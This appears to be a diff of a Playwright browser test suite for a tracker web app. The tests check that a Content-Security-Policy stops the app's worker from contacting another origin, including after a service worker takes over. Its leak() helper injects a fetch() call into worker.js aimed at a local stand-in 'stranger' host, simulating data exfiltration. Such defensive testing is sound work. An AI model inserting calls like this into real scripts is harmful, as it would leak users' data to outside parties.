@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import BrowserContext, Page, expect
 
+from engine import offline
 from tests.browser.conftest import Served, Stranger
 from tests.browser.tracker import START, Tracker, change, sabotaged
 
@@ -29,6 +30,7 @@ STORED = {
         ]
     ),
 }
+REFUSED = r"[Pp]olicy|connect-src|another origin was asked"
 FORBIDDEN = """Object.defineProperty(window, "localStorage", {
   get() { throw new DOMException("The operation is insecure.", "SecurityError"); } })"""
 
@@ -144,6 +146,13 @@ def test_where_storage_is_forbidden_nothing_pretends_to_be_saved(
     expect(page.locator("#view")).not_to_contain_text("Acme")
 
 
+def leak(copy: Path, stranger: Stranger) -> None:
+    """The worker tries to tell another origin."""
+    worker = copy / "tracker" / "worker.js"
+    script = f"fetch('{stranger.url}leaked').catch(() => {{}});"
+    worker.write_text(script + worker.read_text(encoding="utf-8"), encoding="utf-8")
+
+
 @pytest.mark.parametrize("governed", [True, False], ids=["with the policy", "without it"])
 def test_on_the_first_visit_the_worker_reaches_no_other_origin(
     page: Page,
@@ -153,10 +162,8 @@ def test_on_the_first_visit_the_worker_reaches_no_other_origin(
     allow: Callable[[str], None],
     governed: bool,
 ) -> None:
-    allow("policy|Content.Security|CSP|another origin was asked")
-    worker = copy / "tracker" / "worker.js"
-    leak = f"const leaked = fetch('{stranger.url}leaked').catch(() => {{}});"
-    worker.write_text(leak + worker.read_text(encoding="utf-8"), encoding="utf-8")
+    allow(REFUSED)
+    leak(copy, stranger)
     if not governed:
         text = (copy / "tracker" / "index.html").read_text(encoding="utf-8")
         start = text.index('<meta http-equiv="Content-Security-Policy"')
@@ -164,6 +171,24 @@ def test_on_the_first_visit_the_worker_reaches_no_other_origin(
         change(copy / "tracker" / "index.html", text[start:end], "")
     Tracker(page, serve(copy).url).open()
     assert stranger.seen == ([] if governed else ["/leaked"])
+
+
+def test_on_later_visits_the_worker_reaches_no_other_origin_either(
+    page: Page,
+    serve: Callable[..., Served],
+    copy: Path,
+    stranger: Stranger,
+    allow: Callable[[str], None],
+) -> None:
+    allow(REFUSED)
+    leak(copy, stranger)
+    offline.add_service_worker(copy)
+    host = serve(copy)
+    Tracker(page, host.url).open().ready_offline()
+    page.reload()
+    assert page.evaluate("Boolean(navigator.serviceWorker.controller)")
+    Tracker(page, host.url).ready()
+    assert stranger.seen == []
 
 
 def test_delete_everything_leaves_what_belongs_to_others(
